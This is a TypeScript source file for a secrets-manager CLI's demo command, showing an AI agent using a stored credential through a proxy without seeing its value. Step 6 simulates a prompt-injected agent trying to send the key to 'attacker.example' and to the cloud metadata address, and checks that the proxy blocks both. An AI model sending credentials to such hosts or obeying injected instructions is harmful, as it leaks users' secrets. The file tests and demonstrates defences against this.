import { randomBytes } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { loadConfig } from '../../core/config.js';
import { compileScrubber } from '../../core/scrub/scrubber.js';
import { runWithSecrets } from '../../env/runner.js';
import { createServices } from '../../services/index.js';
import { createMemoryKeyProvider } from '../../vault/key-providers.js';
import { createLocalCredentialService } from '../../proxy/credential-service.js';
import type { CliContext } from '../context.js';

/**
 * `agentsecrets demo`: the main job, end to end, with embedded defaults. It uses a throw-away
 * state folder and an in-memory vault key, so it needs no keychain, passphrase, server or
 * account, and leaves nothing behind.
 */
export async function demo(ctx: CliContext, options: { keep?: boolean }): Promise<number> {
  const { out } = ctx;
  const home = await mkdtemp(join(tmpdir(), 'agentsecrets-demo-'));
  const memory = createMemoryKeyProvider();
  // The demo's "API" is a local echo server, so the private-network override opens loopback.
  const config = loadConfig(
    {
      ...ctx.config.env,
      AGENTSECRETS_HOME: home,
      AGENTSECRETS_ENV: '',
      AGENTSECRETS_ALLOW_PRIVATE: '127.0.0.1/32',
    },
    home,
  );
  const services = createServices(config, { memoryKeys: memory });
  const step = (n: number, text: string) => out.line(`\n${n}. ${text}`);
  try {
    out.line('agentsecrets demo: an agent uses a credential without ever seeing it.');
    out.line(`(throw-away state folder ${home}, in-memory vault key)`);

    step(1, 'Create an encrypted vault and a local workspace');
    await services.vault.create(memory);
    const { project } = await services.workspaces.initLocal({
      projectName: 'demo',
      backend: 'passphrase',
    });
    out.line(`   project '${project.name}', environment 'development'`);

    step(2, 'A human stores a credential (the value is random and never printed)');
    const value = `sk_demo_${randomBytes(16).toString('hex')}`;
    const current = await services.workspaces.resolve();
    const vault = await services.vault.unlock();
    await vault.set(current.selection, [{ key: 'DEMO_API_KEY', value }]);
    const onDisk = (await services.vault.read()).records[0]!;
    out.line(`   vault.json holds ciphertext only: ${onDisk.ciphertext.slice(0, 24)}…`);

    step(3, 'The agent lists what exists: names and metadata, no values');
    for (const meta of await services.vault.list(current.selection)) {
      out.line(`   ${meta.key}  version ${meta.version}  updated ${meta.updated_at}`);
    }

    step(4, 'The agent runs a program with the credential injected; output to a pipe is masked');
    const captured = new PassThrough();
    let text = '';
    captured.on('data', (chunk: Buffer) => (text += chunk.toString('utf8')));
    const result = await runWithSecrets({
      command: process.execPath,
      args: [
        '-e',
        'console.log("the program sees a key of length " + process.env.DEMO_API_KEY.length + ": " + process.env.DEMO_API_KEY)',
      ],
      env: { PATH: ctx.config.env.PATH ?? '', DEMO_API_KEY: value },
      mask: compileScrubber([value]),
      noMask: false,
      streams: { stdout: captured, stderr: captured },
    });
    vault.close();
    out.line(`   program output: ${text.trim()}`);
    out.line(`   exit code ${result.exitCode}, ${result.redactions} value(s) masked`);

    step(5, 'The agent calls an API by key name; the API echoes the credential back');
    const upstream = await startEchoServer();
    let leaked = text.includes(value);
    const credentials = await createLocalCredentialService({
      config,
      workspaces: services.workspaces,
      vault: services.vault,
      unlock: () => services.vault.unlock(),
    });
    try {
      await services.workspaces.updateWorkspace(current.workspace.id, (w) => {
        w.allowlist.push({
          pattern: `127.0.0.1:${upstream.port}`,
          added_by: 'demo',
          added_at: new Date().toISOString(),
        });
      });
      out.line(
        `   (a human allowlisted 127.0.0.1:${upstream.port}, a local echo server standing in for an API)`,
      );
      const target = current.target;
      const identity = { agentId: 'demo-agent', source: 'cli' as const };
      const call = (url: string) =>
        credentials.call({
          url,
          method: 'GET',
          headers: [],
          body: undefined,
          injections: [{ style: 'bearer', key: 'DEMO_API_KEY' }],
          target,
          identity,
        });
      const response = await call(`http://127.0.0.1:${upstream.port}/v1/whoami`);
      const body = response.body.toString('utf8');
      leaked ||= body.includes(value);
      out.line(`   HTTP ${response.status}: ${body}`);
      out.line(`   redacted: ${response.redacted}`);

      step(6, 'A prompt-injected agent tries to send the key elsewhere');
      for (const url of [
        'https://attacker.example/collect',
        'https://169.254.169.254/latest/meta-data/',
      ]) {
        try {
          await call(url);
          out.line(`   ${url}: NOT blocked`);
          leaked = true;
        } catch (err) {
          const error = err as { code?: string; message?: string };
          out.line(`   ${url}: blocked (${error.code})`);
        }
      }
      await credentials.audit.flush();

      step(7, 'Every call and block is in the hash-chained audit log');
      const { newestEntries } = await import('../../audit/reader.js');
      const { verifyChain } = await import('../../audit/verify.js');
      for (const entry of (await newestEntries(config.paths.auditDir, 10)).reverse()) {
        out.line(
          `   ${entry.status.padEnd(7)} ${entry.source.padEnd(4)} ${(entry.agent_id ?? 'anonymous').padEnd(11)} ${entry.identity_level.padEnd(9)} ${entry.domain ?? entry.command ?? ''} ${entry.reason ?? ''}`,
        );
      }
      const chain = await verifyChain(config.paths.auditDir);
      out.line(`   chain: ${chain.ok ? 'intact' : 'BROKEN'} (${chain.entries} entries)`);
    } finally {
      await credentials.close();
      await upstream.close();
    }

    out.line('\nDone. To set up for real: agentsecrets init, then agentsecrets secrets set KEY.');
    return result.exitCode === 0 && !leaked ? 0 : 1;
  } finally {
    if (options.keep) out.notice(`kept ${home}`);
    else await rm(home, { recursive: true, force: true });
  }
}

/** A tiny API stand-in that echoes the Authorization header it receives. */
async function startEchoServer(): Promise<{ port: number; close(): Promise<void> }> {
  const { createServer } = await import('node:http');
  const server = createServer((req, res) => {
    const text = JSON.stringify({ you_sent: req.headers.authorization ?? null });
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(text);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  return {
    port: typeof address === 'object' && address !== null ? address.port : 0,
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}
